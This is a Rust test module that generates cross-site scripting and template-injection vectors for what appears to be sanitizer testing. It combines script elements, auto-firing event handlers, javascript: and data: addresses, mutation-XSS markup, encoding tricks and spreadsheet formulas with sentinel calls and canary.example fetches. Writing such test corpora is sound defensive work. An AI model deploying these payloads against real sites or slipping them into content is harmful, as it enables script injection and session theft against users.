//! Texts that would run a script, or fetch one, if any page took them for more than text. Made by putting calls into every
//! place in HTML, Markdown, addresses and templates where a browser or a template would act on them.

/// What is to run. Each call would be told by the sentinels of [`super::hostile`], or by a request to a host that nobody
/// else asks for.
const CALLS: [&str; 8] = [
    "xss(1)",
    "alert(1)",
    "alert`1`",
    "top.xss(1)",
    "self['al'+'ert'](1)",
    "import('//canary.example/1')",
    "eval(atob('eHNzKDEp'))",
    "setTimeout('xss(1)')",
];

/// Whole elements; `§` is the call.
const ELEMENTS: [&str; 44] = [
    "<script>§</script>",
    "<ScRiPt>§</sCrIpT>",
    "<script/x>§</script>",
    "<script\t>§</script >",
    "<<script>§//<</script>",
    "<script>§",
    "<script src=//canary.example/a.js></script>",
    "<script type=module>§</script>",
    "<svg><script>§</script></svg>",
    "<svg><script href=data:text/javascript,§ />",
    "<math><script>§</script></math>",
    "<iframe src=\"javascript:§\"></iframe>",
    "<iframe srcdoc=\"<script>parent.§</script>\"></iframe>",
    "<object data=\"javascript:§\"></object>",
    "<embed src=\"javascript:§\">",
    "<embed src=//canary.example/a.swf>",
    "<base href=//canary.example/>",
    "<base href=\"javascript:§//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:§\">",
    "<meta http-equiv=refresh content=\"0;url=//canary.example/\">",
    "<link rel=stylesheet href=//canary.example/a.css>",
    "<link rel=preload as=script href=//canary.example/p.js>",
    "<style>@import'//canary.example/b.css';</style>",
    "<style>*{background:url(//canary.example/c)}</style>",
    "<p style=\"background:url(//canary.example/d)\">x",
    "<p style=\"behavior:url(#§)\">x",
    "<form action=\"javascript:§\"><button>x</button></form>",
    "<form id=x></form><button form=x formaction=\"javascript:§\">x</button>",
    "<input type=image src=//canary.example/e formaction=\"javascript:§\">",
    "<video poster=//canary.example/f></video>",
    "<audio src=//canary.example/g autoplay></audio>",
    "<picture><source srcset=//canary.example/h><img></picture>",
    "<img srcset=\"//canary.example/i 2x\">",
    "<img src=\"javascript:§\">",
    "<table background=//canary.example/j><tr><td>x",
    "<svg><use href=\"//canary.example/k#x\"/></svg>",
    "<svg><image href=//canary.example/l /></svg>",
    "<svg><a xlink:href=\"javascript:§\"><text y=9>x</text></a></svg>",
    "<math href=\"javascript:§\">x</math>",
    "<svg><foreignObject><body onload=§></foreignObject></svg>",
    "<template><script>§</script></template>",
    "<noscript><img src=x onerror=§></noscript>",
    "<portal src=//canary.example/m></portal>",
    "<frameset onload=§><frame src=\"javascript:§\"></frameset>",
];

/// Elements that make something happen by themselves, with the attribute that hears of it.
const HANDLERS: [(&str, &str); 22] = [
    ("img src=x", "onerror"),
    ("img src=data:,", "onload"),
    ("svg", "onload"),
    ("body", "onpageshow"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("p tabindex=1 autofocus", "onfocus"),
    ("xss-x tabindex=1 autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x", "onbegin"),
    ("a href=x", "onmouseover"),
    ("div style=animation-name:x", "onanimationstart"),
];

/// Ways of writing an element with a handler: `%` is the element, `~` the attribute, `§` the call.
const WRITTEN: [&str; 8] = [
    "<% ~=§>",
    "<% ~=\"§\">",
    "<% ~ = '§' x>",
    "<%/~=§//",
    "<% a='>' ~=§>",
    "<% ~=&#x20;§&#59>",
    "x<%\t~\t=\t§ y=",
    "<%&Tab;x/~=\"&#x0;§\" ~=§>",
];

/// Ways out of where a text stands; `§` is the call.
const WAYS_OUT: [&str; 24] = [
    "\"><img src=x onerror=§>",
    "'><img src=x onerror=§>",
    "`><img src=x onerror=§>",
    "\" autofocus onfocus=§ x=\"",
    "' autofocus onfocus=§ x='",
    "\" onmouseover=§ style=position:fixed;inset:0 \"",
    "--><svg onload=§>",
    "--!><svg onload=§>",
    "]]><svg onload=§>",
    "?><svg onload=§>",
    "</title><svg onload=§>",
    "</textarea><svg onload=§>",
    "</style><svg onload=§>",
    "</script><script>§</script>",
    "</noscript><svg onload=§>",
    "</select><svg onload=§>",
    "</pre></code><svg onload=§>",
    "</iframe><svg onload=§>",
    "</li></ul></form><form action=//canary.example/><input autofocus onfocus=§>",
    "\\\"><svg onload=§>",
    "\\';§;//",
    "\";§;//",
    "${§}",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+§//'>",
];

/// Addresses; `§` is the call. They are put into links of Markdown and of HTML.
const ADDRESSES: [&str; 16] = [
    "javascript:§",
    "JaVaScRiPt:§",
    "javascript&colon;§",
    "&#106;avascript:§",
    "&#x6A&#x61vascript:§",
    "java&#10;script:§",
    "java&Tab;script:§",
    "&#1;javascript:§",
    "javascript://example.org/%0a§",
    "data:text/html,<script>§</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
    "data:image/svg+xml,<svg onload=§ xmlns='http://www.w3.org/2000/svg'/>",
    "vbscript:§",
    "view-source:javascript:§",
    "\u{feff}javascript:§",
    "feed:javascript:§",
];

/// Where an address can stand; `%` is the address.
const LINKS: [&str; 8] = [
    "[x](%)",
    "[x](<%> \"y\")",
    "![x](%)",
    "<%>",
    "[x][y]\n\n[y]: %",
    "<a href=\"%\">x</a>",
    "<a href=' %'>x</a>",
    "[![x](%)](%)",
];

/// Markup that browsers mend into something else than a filter read; `§` is the call.
const MENDED: [&str; 14] = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=§&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=§>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=§>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
    "<svg><style><img src=x onerror=§></style></svg>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=§></style>",
    "<select><template><img src=x onerror=§></template></select>",
    "<xmp><p title=\"</xmp><img src=x onerror=§>\">",
    "<listing>&lt;img src=x onerror=§&gt;</listing>",
    "<!--><img src=x onerror=§>-->",
    "<![CDATA[><img src=x onerror=§>]]>",
    "&lt;img src=x onerror=§&gt;",
    "&amp;lt;img src=x onerror=§&amp;gt;",
    "<p title='&quot;&gt;<img src=x onerror=§>'>`<img src=x onerror=§>`</p>",
];

/// What other programs than browsers would act on: templates, letter sets, mail.
const ELSEWHERE: [&str; 22] = [
    "{{constructor.constructor('§')()}}",
    "{{{site.form}}}",
    "{{@root.site.form}}",
    "{{> admin/layout}}",
    "{{#with \"s\" as |string|}}{{lookup string.sub \"constructor\"}}{{/with}}",
    "{% include 'x' %}<% § %>#{§}",
    "${{§}}[[§]]",
    "{ $name }{ -term }",
    "<mj-raw><script>§</script></mj-raw>",
    "</mj-text><mj-raw><svg onload=§></mj-raw>",
    "+ADw-script+AD4-§+ADw-/script+AD4-",
    "%3Cscript%3E§%3C/script%3E",
    "%253Csvg%2520onload%253D§%253E",
    "\u{fffd}\u{bc}script\u{be}§\u{bc}/script\u{be}",
    "\u{ff1c}script\u{ff1e}§\u{ff1c}/script\u{ff1e}",
    "\u{ad}<svg\u{a0}onload=§>\u{200d}",
    "<\u{feff}script>§</script>",
    "<scr\u{200b}ipt>§</script>",
    "<\u{17f}cript>§</\u{17f}cript>",
    "=HYPERLINK(\"javascript:§\")",
    "Set-Cookie: sid=1; <svg onload=§>",
    "event: over data: <img src=x onerror=§>",
];

/// All of them, each with a call of its own turn.
pub(crate) fn vectors() -> Vec<String> {
    let handlers = HANDLERS.iter().flat_map(|(element, event)| {
        WRITTEN.iter().map(move |written| written.replace('%', element).replace('~', event))
    });
    let links = ADDRESSES.iter().flat_map(|address| LINKS.iter().map(move |link| link.replace('%', address)));
    let texts = [&ELEMENTS[..], &WAYS_OUT, &MENDED, &ELSEWHERE].concat();
    // Each comes with two calls.
    let twice = texts.iter().chain(&texts).map(|text| (*text).to_owned());
    let all =
        twice.chain(handlers).chain(links).chain(LINKS.map(|link| link.replace('%', "javascript:§//"))).enumerate();
    all.map(|(number, text)| text.replace('§', CALLS[(number + number / CALLS.len()) % CALLS.len()])).collect()
}

/// The vectors as texts of at most `most` characters, several in one where they fit; those of more
/// lines in one line. What is longer alone is left out.
pub(crate) fn packed(vectors: &[String], most: usize) -> Vec<String> {
    let mut packs: Vec<String> = Vec::new();
    for vector in vectors.iter().filter(|vector| vector.chars().count() <= most) {
        let vector = vector.replace('\n', " ");
        match packs.last_mut().filter(|pack| pack.chars().count() + vector.chars().count() < most) {
            Some(pack) => {
                pack.push(' ');
                pack.push_str(&vector);
            }
            None => packs.push(vector),
        }
    }
    packs
}
